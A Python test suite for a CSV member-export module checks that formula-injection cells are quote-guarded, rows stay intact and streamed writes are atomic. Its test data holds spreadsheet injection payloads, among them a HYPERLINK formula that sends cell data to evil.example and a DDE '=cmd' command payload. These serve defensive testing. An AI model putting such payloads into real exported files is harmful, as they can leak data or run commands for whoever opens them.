"""CSV text: formula cells guarded, harmless cells untouched, hostile names keep one row each."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from circlekeeper.algorithms.roster_csv import unguard
from circlekeeper.export.csv_text import (
    FORMULA_STARTS,
    MEMBER_COLUMNS,
    ROWS_PER_CHUNK,
    guard,
    member_csv_chunks,
    members_csv,
)
from circlekeeper.models import MemberStatus
from circlekeeper.paths import write_atomic_chunks
from circlekeeper.services.member_rows import MemberExportRow

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
"""The prefixes ../shared/DESIGN.md names; FORMULA_STARTS may guard more."""
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000@SUM(A1)",
]
HARMLESS = [
    "Ana Lima",
    "",
    " ",
    "O'Brien",
    "'already quoted",
    "a=b",
    "x+y-z@w",
    "2026-11-21",
    "Etc/GMT-5",
    "مريم",
    "🌻 Sunny",
    "[b]x[/]",
    'say "hi", then leave',
]
HOSTILE_NAMES = [
    *PAYLOADS,
    'He said "hi", twice',
    "line one\nline two",
    "carriage\rreturn",
    "crlf\r\nin the middle",
    "trailing newline\n",
    '"',
    ",,,",
    "\u2028separator",
    "[@click=app.quit]x",
]


def row(name: str, **changes: object) -> MemberExportRow:
    """A member row with `name` and ordinary values for everything else."""
    values: dict[str, object] = {
        "id": 1,
        "name": name,
        "email": "ana@example.org",
        "handle": "ana",
        "timezone": "Europe/Lisbon",
        "joined_on": dt.date(2026, 1, 5),
        "status": MemberStatus.ACTIVE,
        "tags": {},
    }
    values.update(changes)
    return MemberExportRow.model_validate(values)


def parsed(text: str) -> list[list[str]]:
    """The records a CSV reader finds in `text` (newline="" keeps line breaks inside cells)."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("prefix", DANGEROUS)
def test_every_dangerous_prefix_is_guarded(prefix: str) -> None:
    cell = prefix + "1+1"

    assert guard(cell) == "'" + cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_guarded_even_after_leading_whitespace(payload: str) -> None:
    assert guard(payload) == "'" + payload


@pytest.mark.parametrize("cell", HARMLESS)
def test_harmless_cells_are_untouched(cell: str) -> None:
    assert guard(cell) == cell


@given(st.text())
@settings(max_examples=200)
def test_a_guarded_cell_never_starts_a_formula_and_keeps_its_text(cell: str) -> None:
    guarded = guard(cell)

    assert guarded in (cell, "'" + cell)
    assert guarded[:1] not in FORMULA_STARTS
    assert guarded.lstrip()[:1] not in FORMULA_STARTS
    starts_a_formula = cell[:1] in FORMULA_STARTS or cell.lstrip()[:1] in FORMULA_STARTS
    looks_guarded = unguard(cell) != cell
    assert (guarded != cell) == (starts_a_formula or looks_guarded)
    assert unguard(guarded) == cell


def test_the_header_and_one_record_per_member_in_column_order() -> None:
    members = [
        row("Ana", tags={"role": "host", "city": "Porto"}),
        row("Bo", id=2, email=None, handle="@bo", status=MemberStatus.PAUSED),
    ]

    records = parsed(members_csv(members))

    assert records[0] == list(MEMBER_COLUMNS)
    assert records[1] == [
        "Ana",
        "ana@example.org",
        "ana",
        "Europe/Lisbon",
        "2026-01-05",
        "active",
        "city=Porto;role=host",
    ]
    assert records[2][1:3] == ["", "'@bo"]
    assert records[2][5] == "paused"


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_name_round_trips_as_its_guarded_value(name: str) -> None:
    text = members_csv([row(name), row("After", id=2)])

    records = parsed(text)

    assert len(records) == 3
    assert records[1][0] == guard(name)
    assert records[2][0] == "After"
    assert all(len(record) == len(MEMBER_COLUMNS) for record in records)


def test_hostile_values_in_every_column_stay_in_their_cells() -> None:
    members = [
        row(
            name,
            id=number,
            email=f"=x{number}@example.org",
            handle=name,
            tags={"note": name, "=k": "v"},
        )
        for number, name in enumerate(HOSTILE_NAMES, start=1)
    ]

    records = parsed(members_csv(members))[1:]

    assert len(records) == len(members)
    for member, record in zip(members, records, strict=True):
        assert record[0] == guard(member.name)
        assert record[1] == "'" + (member.email or "")
        assert record[2] == guard(member.handle or "")
        assert record[6] == guard(";".join(f"{k}={v}" for k, v in sorted(member.tags.items())))
        assert all(cell[:1] not in FORMULA_STARTS for cell in record)


@given(st.lists(st.text(min_size=1), min_size=1, max_size=20))
@settings(max_examples=200)
def test_any_names_give_one_record_each_and_read_back_guarded(names: list[str]) -> None:
    members = [row(name, id=number) for number, name in enumerate(names, start=1)]

    records = parsed(members_csv(members))

    assert [record[0] for record in records[1:]] == [guard(name) for name in names]


def test_chunks_stream_without_reading_all_the_rows() -> None:
    endless = (row(f"Member {n}", id=n) for n in itertools.count(1))

    chunks = member_csv_chunks(endless)
    first, second = next(chunks), next(chunks)

    assert first.startswith(",".join(MEMBER_COLUMNS) + "\r\n")
    assert len(parsed(first)) == 1 + ROWS_PER_CHUNK
    assert len(parsed(second)) == ROWS_PER_CHUNK
    assert parsed(second)[0][0] == f"Member {ROWS_PER_CHUNK + 1}"


def test_no_members_give_only_the_header() -> None:
    assert parsed(members_csv([])) == [list(MEMBER_COLUMNS)]


def test_a_stream_that_fails_midway_leaves_the_previous_file(tmp_path: Path) -> None:
    target = tmp_path / "members.csv"
    target.write_text("the previous export\n", encoding="utf-8")

    def failing() -> Iterator[MemberExportRow]:
        yield from (row(f"Member {n}", id=n) for n in range(1, ROWS_PER_CHUNK + 2))
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError, match="went away"):
        write_atomic_chunks(target, member_csv_chunks(failing()))

    assert target.read_text(encoding="utf-8") == "the previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["members.csv"]


def test_a_streamed_file_holds_exactly_the_csv(tmp_path: Path) -> None:
    members = [row(name, id=n) for n, name in enumerate(HOSTILE_NAMES * 100, start=1)]
    target = tmp_path / "members.csv"

    write_atomic_chunks(target, member_csv_chunks(members))

    assert target.read_bytes() == members_csv(members).encode("utf-8")
    assert len(parsed(target.read_bytes().decode("utf-8"))) == 1 + len(members)
